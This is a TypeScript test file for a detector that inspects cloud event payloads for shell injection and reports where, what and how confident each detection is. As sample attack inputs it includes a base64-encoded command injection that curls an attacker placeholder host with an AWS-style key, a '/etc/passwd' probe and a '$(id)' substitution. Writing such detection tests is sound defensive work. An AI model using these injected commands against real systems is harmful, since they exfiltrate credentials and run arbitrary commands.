import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { inspectEvent } from './inspect.ts';

const events = join(import.meta.dirname, '../../../fixtures/events');
const files = readFileSync(join(events, 'INDEX.tsv'), 'utf8')
  .trim()
  .split('\n')
  .slice(1)
  .map((line) => line.split('\t')[0] as string);

test('real events of every platform pass without a detection', (context) => {
  assert.ok(files.length > 200);
  const found: string[] = [];
  for (const file of files) {
    const inspection = inspectEvent(JSON.parse(readFileSync(join(events, file), 'utf8')));
    for (const { class: name, path, evidence } of inspection.detections) found.push(`${file} ${name} ${path} ${evidence}`);
    assert.equal(inspection.incomplete, undefined, file);
  }
  assert.deepEqual(found, []);
  context.diagnostic(`note: ${files.length} real events`);
});

test('a detection says where, what and how sure', () => {
  const data = Buffer.from(JSON.stringify({ cmd: 'x; curl http://attacker.example/?k=AKIAIOSFODNN7EXAMPLE' })).toString('base64');
  const { detections, level, trigger } = inspectEvent({ Records: [{ eventSource: 'aws:kinesis', kinesis: { data } }] });
  assert.equal(level, 'certain');
  assert.equal(trigger, 'aws:kinesis');
  const [first] = detections;
  assert.deepEqual(first, {
    class: 'cmdi',
    detector: 'shell-injection',
    cwe: [78],
    capec: [88],
    path: '$.Records[0].kinesis.data',
    encodings: ['base64', 'json:$.cmd'],
    span: [3, 55],
    evidence: 'x; curl http://attacker.example/?k=‹redacted›',
    reason: 'a shell would run curl after ;',
    confidence: 'high',
  });
});
test('a doubt alone is suspicious', () => assert.equal(inspectEvent({ v: '/etc/passwd' }).level, 'suspicious'));
test('quotes and commas of JSON are no attack', () => assert.equal(inspectEvent({ body: '{"a":"b","c":["d;","e"]}' }).level, 'none'));
test('what the platform stamped is not inspected', () => {
  const record = { eventSource: 'aws:s3', s3: { bucket: { name: '$(id)' }, object: { key: 'a.pdf' } } };
  assert.equal(inspectEvent({ Records: [record] }).level, 'none');
});
